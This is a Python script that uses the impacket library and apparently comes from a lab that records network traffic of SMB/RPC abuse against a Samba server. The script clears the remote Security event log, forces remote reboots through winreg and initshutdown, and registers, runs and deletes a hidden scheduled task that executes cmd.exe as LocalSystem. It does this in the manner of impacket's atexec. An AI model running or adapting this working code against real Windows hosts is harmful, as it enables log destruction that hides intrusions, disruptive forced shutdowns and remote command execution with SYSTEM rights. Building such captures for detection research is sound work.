#!/usr/bin/python3
"""Remote-administration RPC abuse with impacket's library (run by run.sh in the client namespace):
eventlog ElfrOpenELW("Security") + ElfrClearELFW (anti-forensics), winreg
BaseInitiateSystemShutdownEx and initshutdown BaseInitiateShutdownEx (remote reboot), and an
atexec-style scheduled task (tsch SchRpcRegisterTask / SchRpcRun / SchRpcDelete on the atsvc pipe).
Every call is tried on its own: Samba refuses some of them (or has no pipe for them), and the
request on the wire is the evidence. impacket 0.10 has no shutdown helpers, so the two shutdown
calls are declared here from [MS-RRP] 3.1.5.30 and [MS-RSP] 3.2.4.3.
usage: remote_admin_rpc.py SERVER_NAME SERVER_IP DOMAIN USER PASSWORD CLIENT_NAME
"""
import sys

from impacket.smbconnection import SMBConnection
from impacket.dcerpc.v5 import transport, even, rrp, tsch
from impacket.dcerpc.v5.dtypes import NULL, ULONG, UCHAR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.uuid import uuidtup_to_bin
from labrpc import bind as bind_pipe, step

srv, ip, dom, user, pw, host = sys.argv[1:7]

TASK = 'abcdEFGH'   # fixed, atexec-shaped (8 letters): the capture stays the same from run to run
SHUTDOWN_MSG = 'smbtrail lab: planned maintenance\x00'


class BaseInitiateSystemShutdownEx(NDRCALL):  # winreg opnum 30
    opnum = 30
    structure = (
        ('ServerName', rrp.PREGISTRY_SERVER_NAME),
        ('lpMessage', rrp.PRRP_UNICODE_STRING),
        ('dwTimeout', ULONG),
        ('bForceAppsClosed', UCHAR),
        ('bRebootAfterShutdown', UCHAR),
        ('dwReason', ULONG),
    )


class BaseInitiateSystemShutdownExResponse(NDRCALL):
    structure = (('ErrorCode', ULONG),)


MSRPC_UUID_INITSHUTDOWN = uuidtup_to_bin(('894DE0C0-0D55-11D3-A322-00C04FA321A1', '1.0'))


class BaseInitiateShutdownEx(NDRCALL):  # initshutdown opnum 2
    opnum = 2
    structure = BaseInitiateSystemShutdownEx.structure


class BaseInitiateShutdownExResponse(NDRCALL):
    structure = (('ErrorCode', ULONG),)


def shutdown_request(cls):
    req = cls()
    req['ServerName'] = NULL
    req['lpMessage'] = SHUTDOWN_MSG
    req['dwTimeout'] = 30
    req['bForceAppsClosed'] = 1
    req['bRebootAfterShutdown'] = 1
    req['dwReason'] = 0x80020002  # SHTDN_REASON_FLAG_PLANNED | MAJOR_OPERATINGSYSTEM | MINOR_RECONFIG
    return req


conn = SMBConnection(srv, ip, myName=host)
conn.login(user, pw, dom)


def bind(pipe, uuid):
    return bind_pipe(conn, ip, pipe, uuid)


# 1. clear the Security event log
d = step('bind eventlog', bind, r'\eventlog', even.MSRPC_UUID_EVEN)
if d:
    o = step('ElfrOpenELW Security', even.hElfrOpenELW, d, 'Security\x00', NULL)
    if o:
        h = o['LogHandle']
        step('ElfrClearELFW Security', even.hElfrClearELFW, d, h, NULL)
        step('ElfrCloseEL', even.hElfrCloseEL, d, h)
    d.disconnect()

# 2. remote shutdown / reboot: winreg, then initshutdown
d = step('bind winreg', bind, r'\winreg', rrp.MSRPC_UUID_RRP)
if d:
    step('BaseInitiateSystemShutdownEx', d.request, shutdown_request(BaseInitiateSystemShutdownEx))
    d.disconnect()
d = step('bind initshutdown', bind, r'\InitShutdown', MSRPC_UUID_INITSHUTDOWN)
if d:
    step('BaseInitiateShutdownEx', d.request, shutdown_request(BaseInitiateShutdownEx))
    d.disconnect()

# 3. atexec-style scheduled task over the atsvc pipe (Samba has no task scheduler)
CMD = 'cmd.exe'
ARGS = '/C whoami &gt; C:\\Windows\\Temp\\%s.tmp 2&gt;&amp;1' % TASK
XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers>
    <CalendarTrigger>
      <StartBoundary>2015-07-15T20:35:13.2757294</StartBoundary>
      <Enabled>true</Enabled>
      <ScheduleByDay>
        <DaysInterval>1</DaysInterval>
      </ScheduleByDay>
    </CalendarTrigger>
  </Triggers>
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>
    <AllowHardTerminate>true</AllowHardTerminate>
    <RunOnlyIfNetworkAvailable>false</RunOnlyIfNetworkAvailable>
    <IdleSettings>
      <StopOnIdleEnd>true</StopOnIdleEnd>
      <RestartOnIdle>false</RestartOnIdle>
    </IdleSettings>
    <AllowStartOnDemand>true</AllowStartOnDemand>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
    <RunOnlyIfIdle>false</RunOnlyIfIdle>
    <WakeToRun>false</WakeToRun>
    <ExecutionTimeLimit>P3D</ExecutionTimeLimit>
    <Priority>7</Priority>
  </Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>%s</Command>
      <Arguments>%s</Arguments>
    </Exec>
  </Actions>
</Task>
""" % (CMD, ARGS)
d = step('bind atsvc (tsch)', bind, r'\atsvc', tsch.MSRPC_UUID_TSCHS)
if d:
    step('SchRpcRegisterTask', tsch.hSchRpcRegisterTask, d, '\\' + TASK, XML, tsch.TASK_CREATE, NULL,
         tsch.TASK_LOGON_NONE)
    step('SchRpcRun', tsch.hSchRpcRun, d, '\\' + TASK)
    step('SchRpcDelete', tsch.hSchRpcDelete, d, '\\' + TASK)
    d.disconnect()
conn.logoff()
